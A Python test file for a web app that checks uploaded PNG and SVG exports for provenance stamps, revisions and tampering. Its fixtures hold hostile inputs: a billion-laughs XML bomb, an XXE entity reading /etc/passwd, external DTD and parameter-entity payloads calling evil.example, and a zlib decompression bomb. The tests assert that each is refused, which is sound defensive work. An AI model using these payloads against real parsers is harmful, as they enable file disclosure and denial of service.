"""Dropped pictures: what stands, what was revised, and files that mean harm."""

from __future__ import annotations

import html
import json
import struct
import time
import zlib
from dataclasses import replace
from random import Random

import pytest
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from callbacks.explore_page import page_of
from content.export.addresses import VERIFY
from content.export.notes import Origin
from content.export.png_stamp import SIGNATURE, stamp_of_png, with_texts
from content.export.stamp import KEYWORD, NAMESPACE, Stamp, read_stamp, stamp
from content.export.svg_stamp import BadFile, stamp_of_svg
from content.export.verify import read_picture, verify
from content.world import World
from tests.samples import any_view
from translations import LANGUAGES, translator
from view import encode

ORIGIN = Origin("http://localhost", "0123456789ab")
PIXEL = (
    SIGNATURE + b"\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\x06\0\0\0\x1f\x15\xc4\x89"
    b"\0\0\0\nIDATx\x9cc\0\1\0\0\5\0\1\r\n-\xb4\0\0\0\0IEND\xaeB`\x82"
)


def svg_with(text: str) -> bytes:
    """A small SVG that carries a text where a stamp stands."""
    return (
        '<svg xmlns="http://www.w3.org/2000/svg"><metadata>'
        f'<view xmlns="{NAMESPACE}">{html.escape(text)}</view></metadata></svg>'
    ).encode()


def drop(client: FlaskClient, language: str, data: bytes, name: str = "a.png") -> TestResponse:
    """A file as the form sends it."""
    head = f'--cut\r\nContent-Disposition: form-data; name="picture"; filename="{name}"\r\n\r\n'
    return client.post(
        f"/{language}/{VERIFY[language]}",
        data=head.encode() + data + b"\r\n--cut--\r\n",
        content_type="multipart/form-data; boundary=cut",
    )


def of(**query: str) -> Stamp:
    """The stamp of a view's map."""
    return stamp(page_of(query, "fi"), ORIGIN, "map")


def test_a_picture_of_today_stands_in_every_language(client: FlaskClient, here: World) -> None:
    rng = Random(3)
    for n in range(6):
        query = encode(any_view(rng, here.known), here.known)
        part = ("map", "chart")[n % 2]
        extension = ("svg", "png")[n // 2 % 2]
        got = client.get(f"/{LANGUAGES[n % 3]}/export.{extension}?{query}&part={part}")
        language = LANGUAGES[(n + 1) % 3]
        answer = drop(client, language, got.data)
        text = answer.get_data(as_text=True)
        assert answer.status_code == 200
        assert translator(language)("verify.stands") in text
        assert f"/{language}/?{query}" in text.replace("&amp;", "&")
        assert answer.headers["Cache-Control"] == "no-store"


def test_a_revised_figure_is_named_with_both_values(client: FlaskClient) -> None:
    made = of(indicator="foreign-language-speakers", level="district")
    key = next(k for k, mark in made.marks.items() if mark[0].isdigit() and ";" not in mark)
    old = replace(made, marks=dict(made.marks) | {key: "99.9"}, build="000000000000")
    for data in (svg_with(old.text()), with_texts(PIXEL, {KEYWORD: old.text()})):
        text = drop(client, "en", data).get_data(as_text=True)
        assert translator("en")("verify.revised") in text
        assert text.count("<tr>") == 2  # head and the one figure
        assert "99.9%" in text
        assert made.marks[key] in text
        assert "000000000000" in text


def test_a_status_that_became_a_figure_counts_as_revised() -> None:
    made = of(level="sub-district")
    hidden = next(k for k, mark in made.marks.items() if mark == "suppressed")
    shown = next(k for k, mark in made.marks.items() if mark[0].isdigit())
    marks = dict(made.marks) | {hidden: "1.0", shown: "missing"}
    verdict = verify(replace(made, marks=marks), page_of, "sv")
    assert verdict.kind == "revised"
    by_before = {change.before: change.now for change in verdict.changes}
    t = translator("sv")
    assert by_before["1,0\u00a0%"] == t("status.suppressed")
    assert by_before[t("status.missing")][0].isdigit()


def test_a_view_that_is_gone_is_said_to_be_gone() -> None:
    made = of(level="district")
    for search in ("indicator=abolished&level=district", made.search.replace("2025", "1850")):
        assert verify(replace(made, search=search), page_of, "fi").kind == "gone"


def test_an_altered_stamp_is_not_believed(client: FlaskClient) -> None:
    made = of(level="district")
    raw = json.loads(made.text())
    raw["figures"][next(iter(raw["figures"]))] = "0.1"
    answer = drop(client, "fi", svg_with(json.dumps(raw)), "a.svg")
    assert answer.status_code == 400
    assert translator("fi")("verify.reason.altered") in answer.get_data(as_text=True)


@pytest.mark.parametrize("text", [
    "", "{", "[]", "null", "1", '"a"', "[" * 100_000, '{"address":1}', "{}",
    json.dumps({"figures": {str(n): "1" for n in range(6000)}}),
])  # fmt: skip
def test_a_stamp_that_is_none(text: str) -> None:
    with pytest.raises(BadFile) as caught:
        read_picture(svg_with(text))
    assert caught.value.reason in ("foreign", "altered")


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]><svg>&d;</svg>"""
OUTSIDE = b"""<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><view>&x;</view></svg>"""
FOREIGN_DTD = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/a.dtd"><svg/>'
PARAMETER = b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><svg/>'


@pytest.mark.parametrize(("data", "reason"), [
    (LAUGHS, "unsafe"),
    (OUTSIDE, "unsafe"),
    (FOREIGN_DTD, "unsafe"),
    (PARAMETER, "unsafe"),
    (b"<svg>" * 100_000, "unsafe"),
    (svg_with("x" * 1_500_000), "large"),
    (b"<svg>&undeclared;</svg>", "broken"),
    (b"<svg", "broken"),
    (b"<?xml version='1.0' encoding='bogus'?><svg/>", "broken"),
    (b"<svg/>", "foreign"),
    (b"%PDF-1.7", "foreign"),
    (b"", "foreign"),
    (SIGNATURE, "broken"),
    (PIXEL, "foreign"),
    (PIXEL[:-9], "broken"),
    (PIXEL.replace(b"IDAT", b"IDAX"), "broken"),
    (SIGNATURE + b"\xff\xff\xff\xffIHDR", "broken"),
], ids=lambda value: repr(value)[:24])  # fmt: skip
def test_files_that_mean_harm_are_refused_at_once(data: bytes, reason: str) -> None:
    start = time.perf_counter()
    with pytest.raises(BadFile) as caught:
        read_picture(data)
    assert caught.value.reason == reason
    assert time.perf_counter() - start < 1


def test_a_text_that_swells_is_cut_off() -> None:
    body = b"iTXt" + KEYWORD.encode() + b"\0\1\0\0\0" + zlib.compress(b"a" * 200_000_000, 9)
    chunk = struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))
    with pytest.raises(BadFile) as caught:
        stamp_of_png(PIXEL[:33] + chunk + PIXEL[33:])
    assert caught.value.reason == "large"


@pytest.mark.parametrize("language", LANGUAGES)
def test_words_for_every_way_to_fail(client: FlaskClient, language: str) -> None:
    t = translator(language)
    path = f"/{language}/{VERIFY[language]}"
    assert client.get(path).status_code == 200
    for data, reason in ((LAUGHS, "unsafe"), (b"<svg", "broken"), (PIXEL, "foreign")):
        answer = drop(client, language, data)
        assert answer.status_code == 400
        assert t(f"verify.reason.{reason}") in answer.get_data(as_text=True)
    empty = client.post(path, data={})
    assert empty.status_code == 400
    assert t("verify.reason.empty") in empty.get_data(as_text=True)
    large = drop(client, language, b"\0" * 5_000_001)
    assert large.status_code == 413
    assert t("error.413.title") in large.get_data(as_text=True)
    much = drop(client, language, b"\0" * 9_000_000)
    assert much.status_code == 413


def test_other_requests_stay_small(client: FlaskClient) -> None:
    much = {"output": "x" * 200_000}
    assert client.post("/fi/_dash-update-component", json=much).status_code == 413


def test_any_bytes_are_answered(client: FlaskClient) -> None:
    rng = Random(11)
    real = with_texts(PIXEL, {KEYWORD: of(level="district").text()})
    for _ in range(60):
        at = rng.randrange(8, len(real))
        spoiled = real[:at] + rng.randbytes(rng.randrange(4)) + real[at + rng.randrange(4) :]
        assert drop(client, "fi", spoiled).status_code in (200, 400)


def test_texts_come_back_as_they_went_in() -> None:
    text = "Åggelby – 12,3 % ●"
    assert stamp_of_png(with_texts(PIXEL, {"Title": "a", KEYWORD: text})) == text
    assert stamp_of_svg(svg_with("<a> & å")) == "<a> & å"
    made = of(level="district")
    assert read_stamp(made.text()) == made
